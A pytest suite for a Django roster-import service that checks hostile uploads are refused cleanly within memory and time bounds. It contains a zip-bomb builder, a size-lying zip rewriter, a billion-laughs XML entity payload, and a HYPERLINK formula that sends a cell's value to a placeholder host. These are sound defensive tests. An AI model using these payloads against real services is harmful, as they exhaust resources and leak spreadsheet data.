"""Hostile roster files (issue 11 §13, §14): each ends in a clear refusal or row finding — never a traceback or
a 500 — within bounded memory and time. Bounds, not timings: the parse may not raise this process's peak
memory by more than MEMORY_BOUND nor take longer than TIME_BOUND (a 3.8 MB file once took 10.4 GB)."""

from __future__ import annotations

import io
import resource
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import python_calamine as calamine
import xlsxwriter
from django.conf import settings as django_settings
from django.test import Client
from django.urls import reverse

from tests.conftest import DEMO_PASSWORD
from ucj.registry.exports import rejected_rows_xlsx
from ucj.registry.issues import RosterFileError
from ucj.registry.models import ImportBatch, ImportIssue, Participant, RejectedRow
from ucj.registry.services import import_roster
from ucj.registry.validate import TEXT_LIMITS

pytestmark = pytest.mark.django_db

MEMORY_BOUND_MB = 500
TIME_BOUND_S = 30
SUKARAMI = "16.06.01.2001"
SITI, BUDI, AHMAD = "1606014101900012", "1606011505850003", "1606012012920004"


@contextmanager
def bounded() -> Iterator[None]:
    """Assert the block raised neither this process's nor a child's peak RSS by more than the bound, and ended
    within the time bound (ru_maxrss is a high-water mark in KB on Linux)."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    children = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    start = time.monotonic()
    yield
    elapsed = time.monotonic() - start
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    child_peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    assert grown < MEMORY_BOUND_MB, f"memory grew by {grown:.0f} MB"
    # RUSAGE_CHILDREN is the largest of every child this process ever reaped (a worker or CLI process of an
    # earlier test may be reaped during this block), so children are held to the parse child's own hard limit
    # (RLIMIT_AS, UCJ_PARSE_MEMORY_MB), which the kernel enforces; the finer bound applies to this process.
    # A child's ru_maxrss also counts the pages it shared with this process between fork and exec (Linux keeps the
    # old image's high-water mark across exec), so a child of a large test process reads at least this process's
    # peak RSS whatever its own limit.
    limit = max(django_settings.UCJ_PARSE_MEMORY_MB, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024 + 1)
    assert child_peak < limit or child_peak == children / 1024, f"a child peaked at {child_peak:.0f} MB"
    assert elapsed < TIME_BOUND_S, f"took {elapsed:.1f} s"


def refused(data: bytes, name: str) -> str:
    """Import ``data`` expecting the whole file refused; returns the code (and checks the batch says it)."""
    with bounded(), pytest.raises(RosterFileError) as err:
        import_roster(data, name)
    batch = ImportBatch.objects.latest("pk")
    assert batch.status == ImportBatch.Status.FAILED and batch.error_code == err.value.code
    assert err.value.finding.message("id") and err.value.finding.message("en")
    return err.value.code


def imported(data: bytes, name: str = "daftar.csv") -> Any:
    with bounded():
        return import_roster(data, name)


def errors_of(report: Any, row: int) -> set[str]:
    return {f.code for f in report.findings if f.row == row and f.severity == "error"}


def csv_bytes(rows: list[list[str]]) -> bytes:
    return "\n".join(",".join(r) for r in rows).encode()


def xlsx_bytes(rows: list[list[Any]]) -> bytes:
    buf = io.BytesIO()
    book = xlsxwriter.Workbook(buf, {"in_memory": True, "strings_to_formulas": False, "strings_to_numbers": False})
    sheet = book.add_worksheet("Data")
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            sheet.write_string(r, c, value)
    book.close()
    return buf.getvalue()


def rezip(data: bytes, replace: dict[str, Callable[[bytes], bytes]], level: int = 6) -> bytes:
    """Copy a workbook, rewriting some parts."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as dst,
    ):
        for info in src.infolist():
            body = src.read(info.filename)
            dst.writestr(info.filename, replace.get(info.filename, lambda b: b)(body))
    return out.getvalue()


HEADER = ["NIK", "Nama", "Kode Desa"]


def small_roster() -> bytes:
    return xlsx_bytes([HEADER, [SITI, "Siti Aminah", SUKARAMI]])


# --- archives that expand ----------------------------------------------------------------------------------


def zip_bomb(megabytes: int) -> bytes:
    """A valid workbook whose sheet is padded with whitespace to ``megabytes`` once inflated (~1000:1)."""
    base = small_roster()
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst,
    ):
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info.filename, body)
                continue
            head, tail = body.split(b"</sheetData>")
            with dst.open(info.filename, "w", force_zip64=True) as fh:
                fh.write(head)
                pad = b" " * (4 << 20)
                for _ in range(megabytes // 4):
                    fh.write(pad)
                fh.write(b"</sheetData>" + tail)
    return out.getvalue()


def test_zip_bomb_is_refused_before_parsing() -> None:
    bomb = zip_bomb(600)  # default limit: 500 MB uncompressed
    assert len(bomb) < 5 * 1024 * 1024
    assert refused(bomb, "bom.xlsx") == "FILE_TOO_LARGE_UNCOMPRESSED"


def lie_about_sizes(data: bytes, name: str, size: int) -> bytes:
    """Rewrite the zip directory so that part ``name`` claims ``size`` bytes uncompressed (a lying bomb)."""
    buf = bytearray(data)
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(name)
    struct.pack_into("<L", buf, info.header_offset + 22, size)  # local header: uncompressed size
    central = data.index(b"PK\x01\x02")
    while data[central + 46 : central + 46 + struct.unpack_from("<H", data, central + 28)[0]] != name.encode():
        central = data.index(b"PK\x01\x02", central + 4)  # the next central directory record
    struct.pack_into("<L", buf, central + 24, size)
    return bytes(buf)


def test_zip_bomb_with_lying_sizes_is_measured_not_trusted(settings: Any) -> None:
    settings.UCJ_MAX_XLSX_UNCOMPRESSED_MB = 20
    bomb = rezip(small_roster(), {"xl/worksheets/sheet1.xml": lambda b: b.replace(b"</sheetData>",
                                                                                  b" " * (60 << 20) + b"</sheetData>")},
                 level=1)  # fmt: skip
    liar = lie_about_sizes(bomb, "xl/worksheets/sheet1.xml", 1000)
    assert zipfile.ZipFile(io.BytesIO(liar)).getinfo("xl/worksheets/sheet1.xml").file_size == 1000
    assert refused(liar, "bohong.xlsx") == "FILE_TOO_LARGE_UNCOMPRESSED"


def test_billion_laughs_is_refused() -> None:
    entities = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    dtd = f'<!DOCTYPE lolz [<!ENTITY lol0 "lol">{entities}]>'.encode()

    def poison(sheet: bytes) -> bytes:
        declaration, rest = sheet.split(b"?>", 1)
        return declaration + b"?>" + dtd + rest.replace(b"Siti Aminah", b"&lol9;")

    laughs = rezip(small_roster(), {"xl/worksheets/sheet1.xml": poison, "xl/sharedStrings.xml": poison})
    assert len(laughs) < 10_000
    assert refused(laughs, "tawa.xlsx") == "FILE_UNSAFE"


# --- too much -----------------------------------------------------------------------------------------------


def test_file_over_the_upload_cap_is_refused(settings: Any, tmp_path: Path) -> None:
    settings.UCJ_MAX_UPLOAD_MB = 1
    rows = [HEADER] + [[SITI, "Siti Aminah " + "x" * 40, SUKARAMI]] * 30_000  # ~2 MB
    data = csv_bytes(rows)
    assert refused(data, "besar.csv") == "FILE_TOO_LARGE"

    from typer.testing import CliRunner

    from ucj.cli.main import app

    path = tmp_path / "besar.csv"
    path.write_bytes(data)
    result = CliRunner().invoke(app, ["import", "roster", str(path), "--json"])
    assert result.exit_code == 1 and '"FILE_TOO_LARGE"' in result.stdout


def test_upload_page_refuses_a_body_over_the_cap_without_storing_it(
    settings: Any, make_user: Callable[..., Any]
) -> None:
    settings.UCJ_MAX_UPLOAD_MB = 1
    user = make_user("desa", SUKARAMI)
    client = Client()
    assert client.post(reverse("login"), {"username": user.username, "password": DEMO_PASSWORD}).status_code == 302
    big = io.BytesIO(b"NIK,Nama\n" + b"1606014101900012,Siti\n" * 100_000)  # 2.2 MB
    big.name = "besar.csv"
    with bounded():
        response = client.post(reverse("registry:upload"), {"file": big, "region": ""})
    assert response.status_code == 413
    assert "1 MB" in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_api_refuses_a_body_over_the_cap_with_413(settings: Any, make_user: Callable[..., Any]) -> None:
    from ucj.accounts.models import ApiToken

    settings.UCJ_MAX_UPLOAD_MB = 1
    _, token = ApiToken.issue(make_user("desa", SUKARAMI))
    big = io.BytesIO(b"NIK,Nama\n" + b"1606014101900012,Siti\n" * 100_000)
    big.name = "besar.csv"
    with bounded():
        response = Client(HTTP_AUTHORIZATION=f"Bearer {token}").post("/api/v1/imports/roster", {"file": big})
    assert response.status_code == 413 and response.json()["code"] == "FILE_TOO_LARGE"
    assert "1 MB" in response.json()["message_en"] and not ImportBatch.objects.exists()


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_too_many_rows_are_refused_before_parsing(settings: Any, kind: str) -> None:
    settings.UCJ_MAX_ROWS = 100
    rows = [HEADER] + [[SITI, f"Orang {i}", SUKARAMI] for i in range(300)]
    data = csv_bytes(rows) if kind == "csv" else xlsx_bytes(rows)
    assert refused(data, f"banyak.{kind}") == "FILE_TOO_MANY_ROWS"


CHILD_ROWS = [HEADER, [SITI, "Siti Aminah", SUKARAMI], [BUDI, "Budi Santoso", SUKARAMI]]


def test_large_files_are_parsed_in_a_child_under_limits(settings: Any) -> None:
    settings.UCJ_PARSE_INPROCESS_MB = 0  # every file goes to the child
    report = imported(csv_bytes(CHILD_ROWS))
    assert (report.rows, report.accepted) == (2, 2)


def test_a_child_over_its_memory_limit_is_a_clear_refusal(settings: Any) -> None:
    """Not even the parser fits: a refusal, not a crash — and the child never grew past the limit, because it sets
    the limit before it imports the parser (a separate test: ``bounded`` holds every child this process reaped to
    the limit, and the child of the test above rightly used ~180 MB under the default limit)."""
    settings.UCJ_PARSE_INPROCESS_MB = 0
    settings.UCJ_PARSE_MEMORY_MB = 64
    assert refused(xlsx_bytes(CHILD_ROWS), "lagi.xlsx") == "FILE_PARSE_LIMIT"


def test_the_parse_child_sets_its_limits_before_it_imports_a_parser() -> None:
    """Importing Polars and the spreadsheet readers alone takes ~180 MB: a child that imported them before setting
    its memory limit could never be held to a lower one."""
    probe = ("import sys, ucj.registry.sandbox_child; "
             "print(sorted({'polars', 'python_calamine', 'fastexcel'} & set(sys.modules)))")  # fmt: skip
    out = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True).stdout
    assert out.strip() == "[]"


# --- hostile cells -----------------------------------------------------------------------------------------


def test_five_megabyte_cell_is_a_row_finding(settings: Any) -> None:
    huge = "A" * (5 * 1024 * 1024)
    data = csv_bytes([HEADER, [SITI, "Siti Aminah", SUKARAMI], [BUDI, huge, SUKARAMI], [AHMAD, "Ahmad", SUKARAMI]])
    report = imported(data)
    assert (report.rows, report.accepted, report.rejected) == (3, 2, 1)
    assert "CELL_TOO_LONG" in errors_of(report, 3)
    [row] = RejectedRow.objects.filter(batch_id=report.batch_id)
    assert all(len(c or "") <= settings.UCJ_MAX_CELL_CHARS for c in row.cells)
    assert not Participant.objects.filter(nik=BUDI).exists()


def test_five_megabyte_cell_in_a_title_row() -> None:
    data = csv_bytes([["Daftar " + "x" * (5 * 1024 * 1024)], HEADER, [SITI, "Siti Aminah", SUKARAMI]])
    assert imported(data).accepted == 1


def test_nul_bytes_in_cells_are_row_findings_and_never_stored() -> None:
    data = (
        b"NIK,Nama,Kode Desa,Keterangan\n"
        + f"{SITI},Siti Aminah,{SUKARAMI},baik\n".encode()
        + f"{BUDI},Budi\x00Santoso,{SUKARAMI},\n".encode()
        + f"{AHMAD},Ahmad,{SUKARAMI},cat\x00atan\n".encode()
    )
    report = imported(data)
    assert (report.rows, report.accepted, report.rejected) == (3, 1, 2)
    assert errors_of(report, 3) == {"CELL_NUL"} and errors_of(report, 4) == {"CELL_NUL"}
    assert {f.column for f in report.findings if f.code == "CELL_NUL"} == {"Nama", "Keterangan"}
    stored = [*RejectedRow.objects.values_list("cells", "reasons"), *ImportIssue.objects.values_list("value", "extra")]
    assert "\x00" not in repr(stored)


def test_nul_in_an_xlsx_cell() -> None:
    report = imported(xlsx_bytes([HEADER, [SITI, "Siti\x00Aminah", SUKARAMI]]), "nul.xlsx")
    assert errors_of(report, 2) == {"CELL_NUL"} and report.accepted == 0


def test_name_longer_than_its_column_is_a_row_finding() -> None:
    assert TEXT_LIMITS["name"] == Participant._meta.get_field("name").max_length == 200
    for name, limit in TEXT_LIMITS.items():
        assert Participant._meta.get_field(name).max_length == limit
    data = csv_bytes([[*HEADER, "Jabatan"], [SITI, "S" * 300, SUKARAMI, "Kader"], [BUDI, "Budi", SUKARAMI, "J" * 121]])
    report = imported(data)
    assert (report.accepted, report.rejected) == (0, 2)
    [long_name] = [f for f in report.findings if f.row == 2 and f.code == "TEXT_TOO_LONG"]
    assert (long_name.column, long_name.value, long_name.extra) == ("Nama", "200", "300")
    assert "300" in long_name.message("en") and "200" in long_name.message("id")
    assert errors_of(report, 3) == {"TEXT_TOO_LONG"}


def test_mixed_utf8_and_windows_1252_is_a_warning_not_mojibake() -> None:
    data = (
        b"NIK,Nama,Kode Desa\n"
        + f"{SITI},Siti Aminah Ba\u00e9z,{SUKARAMI}\n".encode()
        + f"{BUDI},Budi Andr\u00e9s,{SUKARAMI}\n".encode("cp1252")
    )
    report = imported(data)
    assert report.accepted == 2
    assert Participant.objects.get(nik=SITI).name == "Siti Aminah Ba\u00e9z"
    assert Participant.objects.get(nik=BUDI).name == "Budi Andr\u00e9s"
    [warning] = [f for f in report.findings if f.code == "ENCODING_MIXED"]
    assert (warning.row, warning.severity, warning.value) == (0, "warning", "1")
    assert "UTF-8" in warning.message("id") and "Windows-1252" in warning.message("en")


def test_formula_in_a_name_cell_stays_text() -> None:
    formula = '=HYPERLINK("http://contoh.invalid/?d="&A2,"Klik")'
    report = imported(xlsx_bytes([HEADER, [SITI, formula, SUKARAMI], ["", formula, SUKARAMI]]), "rumus.xlsx")
    assert report.accepted == 1 and Participant.objects.get(nik=SITI).name == formula
    workbook = rejected_rows_xlsx(ImportBatch.objects.get(pk=report.batch_id))
    with zipfile.ZipFile(io.BytesIO(workbook)) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")  # written as a string, never as a formula
    back = calamine.CalamineWorkbook.from_filelike(io.BytesIO(workbook)).get_sheet_by_index(0).to_python()
    assert back[1][1] == formula


def test_findings_per_batch_are_capped_but_counted(settings: Any) -> None:
    settings.UCJ_MAX_STORED_FINDINGS = 25
    rows = [HEADER] + [[f"12345{i}", f"Orang {i}", SUKARAMI] for i in range(60)]  # 60 short NIKs: 60 errors
    report = imported(csv_bytes(rows))
    assert (report.rows, report.rejected) == (60, 60) and len(report.findings) == 60
    batch = ImportBatch.objects.get(pk=report.batch_id)
    assert (batch.rejected, batch.findings_not_stored) == (60, 35)
    assert ImportIssue.objects.filter(batch=batch).count() == 25
    assert RejectedRow.objects.filter(batch=batch).count() == 60  # every rejected row stays downloadable
